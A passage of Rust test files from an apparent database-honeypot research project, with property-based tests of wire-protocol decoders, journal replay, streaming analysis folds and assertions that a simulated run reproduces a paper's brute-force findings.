            InteractionLevel::Low,
            ConfigVariant::MultiService,
            0,
        ),
        HoneypotId::new(
            Dbms::MongoDb,
            InteractionLevel::High,
            ConfigVariant::FakeData,
            0,
        ),
        HoneypotId::new(
            Dbms::Elastic,
            InteractionLevel::Medium,
            ConfigVariant::Default,
            0,
        ),
    ];
    let mut running = Vec::new();
    for id in specs {
        let spec = HoneypotSpec::loopback(id, Clock::simulated(), 7);
        running.push(spawn(store.clone(), spec).await.expect("spawn honeypot"));
    }

    let mut clients = tokio::task::JoinSet::new();
    for (proto, hp) in running.iter().enumerate() {
        let addr = hp.addr();
        for _ in 0..CLIENTS_PER_PROTOCOL {
            clients.spawn(async move {
                for _ in 0..SESSIONS_PER_CLIENT {
                    let outcome = match proto {
                        0 => pg_session(addr).await,
                        1 => mysql_session(addr).await,
                        2 => resp_session(addr).await,
                        3 => tds_session(addr).await,
                        4 => mongo_session(addr).await,
                        _ => http_session(addr).await,
                    };
                    if let Err(e) = outcome {
                        return Err(format!("protocol #{proto} session failed: {e}"));
                    }
                }
                Ok(())
            });
        }
    }
    while let Some(joined) = clients.join_next().await {
        joined.expect("client task").expect("client session");
    }

    for hp in running {
        hp.shutdown().await;
    }

    // zero decode errors: every event the fleet recorded parsed cleanly
    let malformed = store.read(|events| {
        events
            .iter()
            .filter(|e| matches!(e.kind, EventKind::Malformed { .. }))
            .count()
    });
    assert_eq!(
        malformed, 0,
        "well-formed concurrent traffic must not misparse"
    );
    let recorded = store.len();
    assert!(
        recorded >= 6 * CLIENTS_PER_PROTOCOL * SESSIONS_PER_CLIENT * 2,
        "expected at least connect+disconnect per session, saw {recorded}"
    );

    // journal parity: replaying the spool yields exactly the store's events
    store
        .close_journal()
        .expect("close journal")
        .expect("journal attached");
    let reader = JournalReader::open(&dir).expect("open journal dir");
    let mut replay = reader.replay();
    let replayed = replay.by_ref().count();
    assert_eq!(
        replayed, recorded,
        "journal replay count diverges from the store"
    );
    assert!(
        replay.stats().is_clean(),
        "recovery not clean: {}",
        replay.stats().summary()
    );

    let _ = std::fs::remove_dir_all(&dir);
}
