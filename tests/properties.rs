//! Property-based tests (proptest) over the substrate invariants:
//! * decoders never panic on arbitrary bytes (honeypots face hostile input
//!   by definition) and either consume progress or report an error;
//! * encode→decode round-trips for every protocol;
//! * TDS password mangling is a bijection;
//! * masking is idempotent;
//! * the prefix trie agrees with a linear-scan oracle;
//! * TF vectors have unit-bounded coordinates; ECDF is monotone.

use bytes::BytesMut;
use decoy_databases::net::codec::Codec;
use decoy_databases::store::kv::glob_match;
use decoy_databases::store::normalize_action;
use decoy_databases::wire::mongo::bson::{self, Bson, Document};
use decoy_databases::wire::{http, mysql, pgwire, resp, tds};
use proptest::prelude::*;

// ---------------------------------------------------------------------
// decoders survive arbitrary bytes
// ---------------------------------------------------------------------
macro_rules! no_panic_decoder {
    ($name:ident, $codec:expr) => {
        proptest! {
            #[test]
            fn $name(bytes in proptest::collection::vec(any::<u8>(), 0..512)) {
                let mut codec = $codec;
                let mut buf = BytesMut::from(&bytes[..]);
                // drive the decoder until it stops making progress
                for _ in 0..600 {
                    let before = buf.len();
                    match codec.decode(&mut buf) {
                        Ok(Some(_)) => {
                            // progress or empty buffer
                            prop_assert!(buf.len() < before || before == 0);
                        }
                        Ok(None) => break,
                        Err(_) => break,
                    }
                    if buf.is_empty() {
                        break;
                    }
                }
            }
        }
    };
}

no_panic_decoder!(resp_decoder_never_panics, resp::RespCodec::server());
no_panic_decoder!(mysql_decoder_never_panics, mysql::MySqlCodec);
no_panic_decoder!(tds_decoder_never_panics, tds::TdsCodec);
no_panic_decoder!(pg_server_decoder_never_panics, pgwire::PgServerCodec::new());
no_panic_decoder!(pg_client_decoder_never_panics, pgwire::PgClientCodec::new());
no_panic_decoder!(http_decoder_never_panics, http::HttpServerCodec);
no_panic_decoder!(
    mongo_decoder_never_panics,
    decoy_databases::wire::mongo::MongoCodec
);

proptest! {
    #[test]
    fn bson_decoder_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..256)) {
        let _ = bson::decode_document(&bytes);
    }

    #[test]
    fn login7_parser_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..256)) {
        let _ = tds::Login7::parse(&bytes);
        let _ = tds::parse_prelogin(&bytes);
        let _ = tds::parse_error_token(&bytes);
        let _ = mysql::LoginRequest::parse(&bytes);
        let _ = mysql::Greeting::parse(&bytes);
        let _ = mysql::parse_err(&bytes);
        let _ = decoy_databases::wire::foreign::recognize(&bytes);
    }
}

// ---------------------------------------------------------------------
// round-trips
// ---------------------------------------------------------------------

fn arb_resp_value() -> impl Strategy<Value = resp::RespValue> {
    let leaf = prop_oneof![
        "[ -~]{0,24}".prop_map(resp::RespValue::Simple),
        "[ -~]{0,24}".prop_map(resp::RespValue::Error),
        any::<i64>().prop_map(resp::RespValue::Integer),
        proptest::collection::vec(any::<u8>(), 0..48).prop_map(resp::RespValue::Bulk),
        Just(resp::RespValue::NullBulk),
        Just(resp::RespValue::NullArray),
    ];
    leaf.prop_recursive(3, 24, 4, |inner| {
        proptest::collection::vec(inner, 0..4).prop_map(resp::RespValue::Array)
    })
}

proptest! {
    #[test]
    fn resp_roundtrip(value in arb_resp_value()) {
        let mut codec = resp::RespCodec::client();
        let mut buf = BytesMut::new();
        codec.encode(&value, &mut buf).unwrap();
        let decoded = codec.decode(&mut buf).unwrap().unwrap();
        prop_assert_eq!(decoded, value);
        prop_assert!(buf.is_empty());
    }

    #[test]
    fn tds_password_mangle_bijection(password in "\\PC{0,24}") {
        let ucs2 = tds::ucs2_encode(&password);
        let mangled = tds::password_mangle(&ucs2);
        prop_assert_eq!(tds::password_demangle(&mangled), ucs2);
    }

    #[test]
    fn login7_roundtrip(
        user in "[a-zA-Z0-9_]{1,16}",
        password in "[ -~]{0,20}",
        host in "[a-zA-Z0-9-]{1,12}",
    ) {
        let login = tds::Login7 {
            hostname: host,
            username: user,
            password,
            appname: "app".into(),
            servername: "srv".into(),
            database: "db".into(),
        };
        prop_assert_eq!(tds::Login7::parse(&login.build()).unwrap(), login);
    }

    #[test]
    fn mysql_login_roundtrip(
        user in "[a-zA-Z0-9_]{1,16}",
        password in "[ -~]{0,20}",
    ) {
        let login = mysql::LoginRequest::cleartext(&user, &password, None);
        let parsed = mysql::LoginRequest::parse(&login.build()).unwrap();
        prop_assert_eq!(parsed.password_observed(), password);
        prop_assert_eq!(parsed.username, user);
    }

    #[test]
    fn pg_query_roundtrip(query in "[ -~]{0,64}") {
        let mut client = pgwire::PgClientCodec::new();
        let mut server = pgwire::PgServerCodec::new();
        let mut buf = BytesMut::new();
        client.encode(
            &pgwire::FrontendMessage::Startup { params: vec![("user".into(), "u".into())] },
            &mut buf,
        ).unwrap();
        server.decode(&mut buf).unwrap().unwrap();
        client.encode(&pgwire::FrontendMessage::Query(query.clone()), &mut buf).unwrap();
        let decoded = server.decode(&mut buf).unwrap().unwrap();
        prop_assert_eq!(decoded, pgwire::FrontendMessage::Query(query));
    }
}

fn arb_bson() -> impl Strategy<Value = Bson> {
    let leaf = prop_oneof![
        any::<f64>()
            .prop_filter("finite", |d| d.is_finite())
            .prop_map(Bson::Double),
        "[ -~]{0,16}".prop_map(Bson::String),
        any::<bool>().prop_map(Bson::Bool),
        any::<i32>().prop_map(Bson::Int32),
        any::<i64>().prop_map(Bson::Int64),
        Just(Bson::Null),
        proptest::collection::vec(any::<u8>(), 0..16).prop_map(Bson::Binary),
        any::<[u8; 12]>().prop_map(Bson::ObjectId),
        any::<i64>().prop_map(Bson::DateTime),
    ];
    leaf.prop_recursive(3, 16, 4, |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..4).prop_map(Bson::Array),
            proptest::collection::vec(("[a-z]{1,6}", inner), 0..4)
                .prop_map(|pairs| { Bson::Document(pairs.into_iter().collect::<Document>()) }),
        ]
    })
}

proptest! {
    #[test]
    fn bson_roundtrip(pairs in proptest::collection::vec(("[a-z]{1,8}", arb_bson()), 0..6)) {
        let doc: Document = pairs.into_iter().collect();
        let mut buf = BytesMut::new();
        bson::encode_document(&doc, &mut buf);
        let (decoded, used) = bson::decode_document(&buf).unwrap();
        prop_assert_eq!(used, buf.len());
        prop_assert_eq!(decoded, doc);
    }
}

// ---------------------------------------------------------------------
// masking, globbing, trie, analysis invariants
// ---------------------------------------------------------------------
proptest! {
    #[test]
    fn masking_is_idempotent(input in "[ -~]{0,80}") {
        let once = normalize_action(&input);
        let twice = normalize_action(&once);
        prop_assert_eq!(&once, &twice, "masking must be a projection");
    }

    #[test]
    fn glob_star_matches_everything(text in "[a-z0-9:]{0,24}") {
        prop_assert!(glob_match("*", &text));
        prop_assert!(glob_match(&text, &text), "exact match");
    }

    #[test]
    fn trie_matches_oracle(
        prefixes in proptest::collection::vec((any::<u32>(), 0u8..=32), 1..48),
        probes in proptest::collection::vec(any::<u32>(), 1..64),
    ) {
        use decoy_databases::geo::trie::PrefixTrie;
        let mut trie = PrefixTrie::new();
        let mut table: Vec<(u32, u8, u32)> = Vec::new();
        for (i, (base, len)) in prefixes.iter().enumerate() {
            let mask = if *len == 0 { 0 } else { u32::MAX << (32 - *len as u32) };
            let base = base & mask;
            if table.iter().any(|(b, l, _)| *b == base && *l == *len) {
                continue;
            }
            trie.insert(base, *len, i as u32);
            table.push((base, *len, i as u32));
        }
        for addr in probes {
            let expected = table
                .iter()
                .filter(|(base, len, _)| {
                    let mask = if *len == 0 { 0 } else { u32::MAX << (32 - *len as u32) };
                    addr & mask == *base
                })
                .max_by_key(|(_, len, _)| *len)
                .map(|(_, _, v)| *v);
            prop_assert_eq!(trie.lookup(addr), expected);
        }
    }

    #[test]
    fn tf_vectors_are_distributions(terms in proptest::collection::vec("[A-Z]{1,6}", 0..32)) {
        use decoy_databases::analysis::tf::{TfVector, Vocabulary};
        let mut vocab = Vocabulary::new();
        let v = TfVector::from_terms(&terms, &mut vocab);
        let sum: f64 = v.nonzero().map(|(_, x)| x).sum();
        if terms.is_empty() {
            prop_assert_eq!(sum, 0.0);
        } else {
            prop_assert!((sum - 1.0).abs() < 1e-9, "tf sums to 1, got {}", sum);
        }
        prop_assert!(v.nonzero().all(|(_, x)| (0.0..=1.0).contains(&x)));
    }

    #[test]
    fn ecdf_is_monotone(samples in proptest::collection::vec(-1e6f64..1e6, 0..64)) {
        use decoy_databases::analysis::Ecdf;
        let e = Ecdf::new(samples);
        let mut prev = 0.0;
        for x in [-1e7, -10.0, 0.0, 10.0, 1e7] {
            let y = e.eval(x);
            prop_assert!(y >= prev);
            prop_assert!((0.0..=1.0).contains(&y));
            prev = y;
        }
    }

    #[test]
    fn luhn_check_digit_validates(digits in proptest::collection::vec(0u8..10, 1..20)) {
        use decoy_databases::fakedata::{luhn_check_digit, luhn_valid};
        let check = luhn_check_digit(&digits);
        let full: String = digits
            .iter()
            .chain(std::iter::once(&check))
            .map(|d| (b'0' + d) as char)
            .collect();
        prop_assert!(luhn_valid(&full));
    }

    #[test]
    fn docdb_delete_matches_find(
        docs in proptest::collection::vec(
            ("[ab]", 0i32..4), // small value space forces filter collisions
            0..24,
        ),
        filter_key in "[ab]",
        filter_val in 0i32..4,
    ) {
        use decoy_databases::store::docdb::DocDb;
        use decoy_databases::wire::mongo::bson::Document;
        let db = DocDb::new();
        let documents: Vec<Document> = docs
            .iter()
            .map(|(k, v)| Document::new().with(k.as_str(), *v))
            .collect();
        db.insert("d", "c", documents);
        let filter = Document::new().with(filter_key.as_str(), filter_val);
        let matching = db.find("d", "c", &filter, 0).len();
        prop_assert_eq!(db.count("d", "c", &filter), matching);
        let removed = db.delete("d", "c", &filter).n;
        prop_assert_eq!(removed, matching);
        prop_assert!(db.find("d", "c", &filter, 0).is_empty());
        // untouched documents survive
        prop_assert_eq!(db.count("d", "c", &Document::new()), docs.len() - matching);
    }

    #[test]
    fn kv_lrange_agrees_with_slice_oracle(
        values in proptest::collection::vec(proptest::collection::vec(any::<u8>(), 0..4), 0..12),
        start in -15i64..15,
        stop in -15i64..15,
    ) {
        use decoy_databases::store::kv::KvStore;
        let kv = KvStore::new();
        if !values.is_empty() {
            kv.rpush("l", values.clone());
        }
        let got = kv.lrange("l", start, stop);
        // oracle: Redis semantics on a plain Vec
        let len = values.len() as i64;
        let norm = |i: i64| if i < 0 { (len + i).max(0) } else { i.min(len) };
        let (a, b) = (norm(start), norm(stop).min(len - 1));
        let expected: Vec<Vec<u8>> = if len == 0 || a > b {
            Vec::new()
        } else {
            values[a as usize..=(b as usize)].to_vec()
        };
        prop_assert_eq!(got, expected);
    }

    #[test]
    fn ward_heights_are_monotone(
        points in proptest::collection::vec(proptest::collection::vec(0.0f64..1.0, 3), 2..24),
    ) {
        use decoy_databases::analysis::cluster::ward_cluster;
        use decoy_databases::analysis::tf::TfVector;
        let vectors: Vec<TfVector> = points
            .into_iter()
            .map(|values| TfVector::from_dense(values, 1))
            .collect();
        let weights = vec![1.0; vectors.len()];
        let d = ward_cluster(&vectors, &weights);
        prop_assert_eq!(d.merges.len(), d.n - 1);
        for w in d.merges.windows(2) {
            prop_assert!(w[0].height <= w[1].height + 1e-9);
        }
        // cutting into k clusters yields exactly k labels
        for k in 1..=d.n.min(4) {
            let labels = d.cut_into(k);
            let distinct: std::collections::HashSet<_> = labels.iter().collect();
            prop_assert_eq!(distinct.len(), k);
        }
    }
}
