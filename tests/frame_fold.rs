//! Foldable-frame campaign: partial frames folded over arbitrary segment
//! cuts must seal into exactly the frame a batch build produces.
//!
//! The streaming-analysis contract (DESIGN.md §9) is that
//! `PartialFrame` is a fold any event slice can enter, `merge` is
//! associative and order-insensitive across segments, and `seal` of the
//! merged fold equals `AnalysisFrame::build` over the whole store. The
//! property suite attacks that contract with arbitrary events (every
//! DBMS, every `EventKind` including `Health`, IPv6, non-ASCII) and
//! arbitrary cut points; the end-to-end tests then pin the report layer:
//! segment-streamed, live-tailed, and shard-merged reports must render
//! byte-identically to the batch report over the same run.

mod common;

use common::gen::arb_event;
use decoy_databases::analysis::fold::PartialFrame;
use decoy_databases::analysis::frame::AnalysisFrame;
use decoy_databases::core::report::{LiveReport, Report};
use decoy_databases::core::runner::{run, ExperimentConfig};
use decoy_databases::geo::{GeoDb, GeoEnricher};
use decoy_databases::store::{Event, EventStore, JournalConfig, JournalWriter};
use proptest::prelude::*;
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::SeedableRng;

/// The batch oracle: one store, one full-scan frame build.
fn batch_frame(events: &[Event]) -> AnalysisFrame {
    let store = EventStore::new();
    store.log_many(events.iter().cloned());
    AnalysisFrame::build(&store, &GeoDb::builtin())
}

/// Cut `events` into contiguous segments at `cuts` (taken modulo the event
/// count, deduplicated) and fold each window into its own `PartialFrame`
/// anchored at its global start position.
fn fold_segments(events: &[Event], cuts: &[usize], enricher: &GeoEnricher) -> Vec<PartialFrame> {
    let mut bounds: Vec<usize> = vec![0, events.len()];
    bounds.extend(cuts.iter().map(|c| c % (events.len() + 1)));
    bounds.sort_unstable();
    bounds.dedup();
    bounds
        .windows(2)
        .map(|w| {
            let (start, end) = (w[0], w[1]);
            let mut partial = PartialFrame::new(start as u64);
            for event in &events[start..end] {
                partial.push(event, enricher);
            }
            partial
        })
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    /// seal(fold(segment) ∘ merge) == AnalysisFrame::build(store), for any
    /// cut of the stream into contiguous segments.
    #[test]
    fn sealed_fold_equals_batch_build(
        events in proptest::collection::vec(arb_event(), 0..60),
        cuts in proptest::collection::vec(0usize..64, 0..6),
    ) {
        let enricher = GeoEnricher::new(GeoDb::builtin());
        let folded = fold_segments(&events, &cuts, &enricher)
            .into_iter()
            .fold(PartialFrame::new(0), PartialFrame::merge);
        prop_assert_eq!(folded.seal(), batch_frame(&events));
    }

    /// merge is associative, and the sealed result does not depend on the
    /// order segments arrive in.
    #[test]
    fn merge_is_associative_and_permutation_invariant(
        events in proptest::collection::vec(arb_event(), 1..48),
        cuts in proptest::collection::vec(0usize..64, 2..6),
        shuffle_seed in any::<u64>(),
    ) {
        let enricher = GeoEnricher::new(GeoDb::builtin());
        let parts = fold_segments(&events, &cuts, &enricher);

        // associativity on a three-way split of the parts
        if parts.len() >= 3 {
            let (a, b, c) = (parts[0].clone(), parts[1].clone(), parts[2].clone());
            let left = PartialFrame::merge(PartialFrame::merge(a.clone(), b.clone()), c.clone());
            let right = PartialFrame::merge(a, PartialFrame::merge(b, c));
            prop_assert_eq!(left, right);
        }

        // permutation invariance: shuffled arrival seals identically
        let in_order = parts
            .iter()
            .cloned()
            .fold(PartialFrame::new(0), PartialFrame::merge);
        let mut shuffled = parts;
        shuffled.shuffle(&mut StdRng::seed_from_u64(shuffle_seed));
        let out_of_order = shuffled
            .into_iter()
            .fold(PartialFrame::new(0), PartialFrame::merge);
        prop_assert_eq!(&in_order, &out_of_order);
        prop_assert_eq!(in_order.seal(), batch_frame(&events));
    }

    /// Empty partials are neutral elements and singleton segments fold
    /// cleanly — the degenerate shapes a tail poll produces constantly.
    #[test]
    fn empty_and_singleton_segments_fold_cleanly(
        events in proptest::collection::vec(arb_event(), 0..10),
        empty_anchor in any::<u64>(),
    ) {
        let enricher = GeoEnricher::new(GeoDb::builtin());
        // every event in its own singleton segment
        let cuts: Vec<usize> = (0..events.len()).collect();
        let mut folded = fold_segments(&events, &cuts, &enricher)
            .into_iter()
            .fold(PartialFrame::new(0), PartialFrame::merge);
        // interleave empty partials anywhere: they must change nothing
        folded = PartialFrame::merge(folded, PartialFrame::new(empty_anchor));
        folded = PartialFrame::merge(PartialFrame::new(0), folded);
        prop_assert_eq!(folded.len(), events.len());
        prop_assert_eq!(folded.seal(), batch_frame(&events));
    }
}

/// Journal a finished run's store into `dir` with small segments, forcing
/// the streaming paths to cross many rotation boundaries.
fn spool_store(store: &EventStore, dir: &std::path::Path) {
    let journal = JournalWriter::open(JournalConfig {
        segment_bytes: 16 * 1024,
        fsync: false,
        ..JournalConfig::spool(dir)
    })
    .unwrap();
    store.read(|events| {
        for event in events {
            journal.append(event);
        }
    });
    journal.close().unwrap();
}

/// Segment files of `dir` in replay order.
fn segment_files(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut segs: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "dcyj"))
        .collect();
    segs.sort();
    segs
}

fn copy_into(segs: &[std::path::PathBuf], dir: &std::path::Path) {
    std::fs::create_dir_all(dir).unwrap();
    for seg in segs {
        std::fs::copy(seg, dir.join(seg.file_name().unwrap())).unwrap();
    }
}

/// The golden pin of the acceptance criterion: a report folded from journal
/// segments — streamed, live-tailed, or shard-merged — renders
/// byte-identically to the batch report over the same run.
#[tokio::test]
async fn streaming_report_is_byte_identical_to_batch() {
    let dir = std::env::temp_dir().join(format!("decoy-fold-golden-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let config = ExperimentConfig::direct(7, 0.005);
    let result = run(config.clone()).await.unwrap();
    let batch_text = Report::generate(&result).render_text();

    spool_store(&result.store, &dir);
    let segs = segment_files(&dir);
    assert!(segs.len() >= 3, "need several segments, got {}", segs.len());

    // segment-streamed fold (and from_journal, which now routes through it)
    let (streamed, stats) = Report::from_journal_streaming(config.clone(), &dir).unwrap();
    assert!(stats.is_clean(), "{}", stats.summary());
    assert_eq!(stats.records_kept as usize, result.store.len());
    assert_eq!(streamed.render_text(), batch_text);
    let (routed, _) = Report::from_journal(config.clone(), &dir).unwrap();
    assert_eq!(routed.render_text(), batch_text);

    // live tail over the finished journal drains into the same report
    let mut live = LiveReport::open(&config, &dir);
    while live.poll().unwrap() > 0 {}
    assert!(live.journal_error().is_none(), "{:?}", live.journal_error());
    assert_eq!(live.events_seen() as usize, result.store.len());
    assert_eq!(live.render().render_text(), batch_text);

    // shard join: alternate segments across two directories, pass them in
    // scrambled order — merge reassembles the global sequence
    let shard_a = dir.join("shard-a");
    let shard_b = dir.join("shard-b");
    let (even, odd): (Vec<_>, Vec<_>) = segs
        .iter()
        .cloned()
        .enumerate()
        .partition(|(i, _)| i % 2 == 0);
    copy_into(
        &even.into_iter().map(|(_, p)| p).collect::<Vec<_>>(),
        &shard_a,
    );
    copy_into(
        &odd.into_iter().map(|(_, p)| p).collect::<Vec<_>>(),
        &shard_b,
    );
    let (merged, merge_stats) = Report::from_shards(config, &[&shard_b, &shard_a]).unwrap();
    assert!(merge_stats.error.is_none(), "{}", merge_stats.summary());
    assert_eq!(merge_stats.records_kept as usize, result.store.len());
    assert_eq!(merged.render_text(), batch_text);

    let _ = std::fs::remove_dir_all(&dir);
}

/// Shard joins are lenient but not blind: a hole in the global sequence
/// range is surfaced in the stats while the report still renders.
#[tokio::test]
async fn shard_join_detects_missing_segments() {
    let dir = std::env::temp_dir().join(format!("decoy-fold-gap-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let config = ExperimentConfig::direct(7, 0.005);
    let result = run(config.clone()).await.unwrap();
    spool_store(&result.store, &dir);
    let segs = segment_files(&dir);
    assert!(segs.len() >= 3, "need several segments, got {}", segs.len());

    // shard A is missing the second segment; shard B replicates the first
    // (the duplicate must deduplicate, the hole must surface)
    let shard_a = dir.join("shard-a");
    let shard_b = dir.join("shard-b");
    let mut without_middle = segs.clone();
    without_middle.remove(1);
    copy_into(&without_middle, &shard_a);
    copy_into(&segs[..1], &shard_b);

    let (report, stats) = Report::from_shards(config, &[&shard_a, &shard_b]).unwrap();
    let err = stats
        .error
        .expect("missing segment must surface as an error");
    assert_eq!(err.kind.label(), "sequence-gap", "{err}");
    assert!(
        (stats.records_kept as usize) < result.store.len(),
        "kept {} of {}",
        stats.records_kept,
        result.store.len()
    );
    assert!(!report.render_text().is_empty());

    let _ = std::fs::remove_dir_all(&dir);
}
