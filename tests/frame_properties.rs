//! Property-based tests for the one-pass `AnalysisFrame` and the store's
//! `by_session` secondary index: for arbitrary event sequences, every
//! frame-derived aggregate must equal a naive linear fold over the raw
//! events, and the indexes must agree with linear-scan oracles.

use decoy_databases::analysis::frame::{AnalysisFrame, FrameKind, Partition};
use decoy_databases::geo::GeoDb;
use decoy_databases::net::time::EXPERIMENT_START;
use decoy_databases::store::{
    ConfigVariant, Dbms, Event, EventKind, EventStore, HoneypotId, InteractionLevel,
};
use proptest::prelude::*;
use std::collections::{HashMap, HashSet};
use std::net::IpAddr;

fn arb_dbms() -> impl Strategy<Value = Dbms> {
    prop_oneof![
        Just(Dbms::Mssql),
        Just(Dbms::MySql),
        Just(Dbms::Postgres),
        Just(Dbms::Redis),
        Just(Dbms::MongoDb),
        Just(Dbms::Elastic),
    ]
}

fn arb_level() -> impl Strategy<Value = InteractionLevel> {
    prop_oneof![
        Just(InteractionLevel::Low),
        Just(InteractionLevel::Medium),
        Just(InteractionLevel::High),
    ]
}

fn arb_config() -> impl Strategy<Value = ConfigVariant> {
    prop_oneof![
        Just(ConfigVariant::Default),
        Just(ConfigVariant::FakeData),
        Just(ConfigVariant::LoginDisabled),
        Just(ConfigVariant::MultiService),
        Just(ConfigVariant::SingleService),
    ]
}

fn arb_kind() -> impl Strategy<Value = EventKind> {
    prop_oneof![
        Just(EventKind::Connect),
        Just(EventKind::Disconnect),
        ("[a-z]{1,6}", "[a-z0-9]{0,8}", any::<bool>()).prop_map(|(username, password, success)| {
            EventKind::LoginAttempt {
                username,
                password,
                success,
            }
        }),
        ("[A-Z]{2,8}", "[ -~]{0,12}").prop_map(|(action, raw)| EventKind::Command { action, raw }),
        (
            0usize..512,
            proptest::option::of("[a-z-]{2,8}"),
            "[ -~]{0,8}"
        )
            .prop_map(|(len, recognized, preview)| EventKind::Payload {
                len,
                recognized,
                preview,
            }),
        "[ -~]{0,12}".prop_map(|detail| EventKind::Malformed { detail }),
    ]
}

fn arb_event() -> impl Strategy<Value = Event> {
    (
        0u64..1_000_000,
        arb_dbms(),
        arb_level(),
        arb_config(),
        0u16..3,
        any::<[u8; 4]>(),
        0u64..4,
        arb_kind(),
    )
        .prop_map(
            |(ms, dbms, level, config, instance, ip, session, kind)| Event {
                ts: EXPERIMENT_START.add_millis(ms),
                honeypot: HoneypotId::new(dbms, level, config, instance),
                src: IpAddr::from(ip),
                session,
                kind,
            },
        )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Frame aggregates (per-IP event counts, per-DBMS login counts,
    /// session counts, partition sizes) equal a naive fold over the raw
    /// event sequence.
    #[test]
    fn frame_aggregates_match_naive_fold(
        events in proptest::collection::vec(arb_event(), 0..60),
    ) {
        let store = EventStore::new();
        store.log_many(events.clone());
        let geo = GeoDb::builtin();
        let frame = AnalysisFrame::build(&store, &geo);

        // naive linear fold over the raw events
        let mut naive_per_ip: HashMap<IpAddr, usize> = HashMap::new();
        let mut naive_logins: HashMap<Dbms, usize> = HashMap::new();
        let mut naive_sessions: HashSet<(HoneypotId, IpAddr, u64)> = HashSet::new();
        let mut naive_low = 0usize;
        for e in &events {
            *naive_per_ip.entry(e.src).or_default() += 1;
            if matches!(e.kind, EventKind::LoginAttempt { .. }) {
                *naive_logins.entry(e.honeypot.dbms).or_default() += 1;
            }
            naive_sessions.insert((e.honeypot, e.src, e.session));
            if e.honeypot.level == InteractionLevel::Low {
                naive_low += 1;
            }
        }

        // the same aggregates off the frame
        let mut frame_per_ip: HashMap<IpAddr, usize> = HashMap::new();
        let mut frame_logins: HashMap<Dbms, usize> = HashMap::new();
        for e in frame.events() {
            *frame_per_ip.entry(e.src).or_default() += 1;
            if matches!(e.kind, FrameKind::LoginAttempt { .. }) {
                *frame_logins.entry(e.honeypot.dbms).or_default() += 1;
            }
        }
        prop_assert_eq!(frame.len(), events.len());
        prop_assert_eq!(frame_per_ip, naive_per_ip);
        prop_assert_eq!(frame_logins, naive_logins);
        prop_assert_eq!(frame.session_count(), naive_sessions.len());
        prop_assert_eq!(store.session_count(), naive_sessions.len());
        // the partitions tile the frame exactly
        prop_assert_eq!(frame.view(Partition::Low).len(), naive_low);
        prop_assert_eq!(
            frame.view(Partition::Low).len() + frame.view(Partition::MedHigh).len(),
            frame.view(Partition::All).len()
        );
        // every distinct source got enriched exactly once
        prop_assert_eq!(frame.distinct_sources(), frame_per_ip_len(&events));
    }

    /// The store's `by_session` index and the frame's session grouping both
    /// agree with a linear filter over the raw sequence, preserving log
    /// order within each session.
    #[test]
    fn by_session_index_matches_linear_filter(
        events in proptest::collection::vec(arb_event(), 0..60),
    ) {
        let store = EventStore::new();
        // exercise the single-event `log` path (log_many is covered above)
        for e in events.clone() {
            store.log(e);
        }
        for (hp, key) in store.session_keys() {
            let indexed = store.by_session(hp, key);
            let expected: Vec<Event> = events
                .iter()
                .filter(|e| e.honeypot == hp && e.src == key.src && e.session == key.session)
                .cloned()
                .collect();
            prop_assert!(!indexed.is_empty(), "index lists an empty session");
            prop_assert_eq!(indexed, expected);
        }

        let geo = GeoDb::builtin();
        let frame = AnalysisFrame::build(&store, &geo);
        prop_assert_eq!(frame.session_count(), store.session_count());
        for (hp, key) in store.session_keys() {
            let frame_events = frame.session_events(hp, key);
            let store_events = store.by_session(hp, key);
            prop_assert_eq!(frame_events.len(), store_events.len());
            for (f, s) in frame_events.iter().zip(&store_events) {
                prop_assert_eq!(f.ts, s.ts);
                prop_assert_eq!(f.honeypot, s.honeypot);
                prop_assert_eq!(f.src, s.src);
                prop_assert_eq!(f.session, s.session);
            }
        }
    }
}

fn frame_per_ip_len(events: &[Event]) -> usize {
    events.iter().map(|e| e.src).collect::<HashSet<_>>().len()
}
