//! Shape assertions: a scaled run must reproduce the paper's qualitative
//! findings — who wins, by roughly what factor, in every table and figure.
//! These are the acceptance criteria recorded in EXPERIMENTS.md.

use decoy_databases::analysis::classify::{classify_sources, ClassCounts};
use decoy_databases::analysis::cluster::{cluster_sources, refine_by_behavior};
use decoy_databases::analysis::ecdf::{retention_days, single_day_fraction};
use decoy_databases::analysis::tables;
use decoy_databases::analysis::tagging::{tag_sources, CampaignTag};
use decoy_databases::analysis::timeseries::hourly_series;
use decoy_databases::analysis::upset::upset;
use decoy_databases::core::report::MED_HIGH_FAMILIES;
use decoy_databases::core::runner::{run, ExperimentConfig, ExperimentResult};
use decoy_databases::net::time::EXPERIMENT_START;
use decoy_databases::store::{Dbms, EventStore, InteractionLevel};
use std::sync::Arc;
use tokio::sync::OnceCell;

static RUN: OnceCell<ExperimentResult> = OnceCell::const_new();

async fn shared() -> &'static ExperimentResult {
    RUN.get_or_init(|| async {
        run(ExperimentConfig::direct(20240322, 0.06))
            .await
            .expect("experiment")
    })
    .await
}

fn low_view(result: &ExperimentResult) -> Arc<EventStore> {
    EventStore::from_events(
        result
            .store
            .filter(|e| e.honeypot.level == InteractionLevel::Low),
    )
}

fn med_high_view(result: &ExperimentResult) -> Arc<EventStore> {
    EventStore::from_events(
        result
            .store
            .filter(|e| e.honeypot.level != InteractionLevel::Low),
    )
}

#[tokio::test]
async fn mssql_dominates_bruteforce_volume() {
    // §5: 18,076,729 of 18,162,811 attempts (99.5%) target MSSQL.
    let low = low_view(shared().await);
    let brute = tables::bruteforce_summary(&low);
    let mssql = brute.per_dbms[&Dbms::Mssql];
    let share = mssql as f64 / brute.total_logins as f64;
    assert!(share > 0.95, "MSSQL share {share:.3}");
    // Redis receives no logins on the low fleet; PostgreSQL near-zero.
    assert_eq!(brute.per_dbms.get(&Dbms::Redis).copied().unwrap_or(0), 0);
    let pg = brute.per_dbms.get(&Dbms::Postgres).copied().unwrap_or(0);
    assert!(pg < brute.total_logins / 1000, "PG logins {pg}");
}

#[tokio::test]
async fn russia_tops_table5_via_four_heavy_ips() {
    let result = shared().await;
    let low = low_view(result);
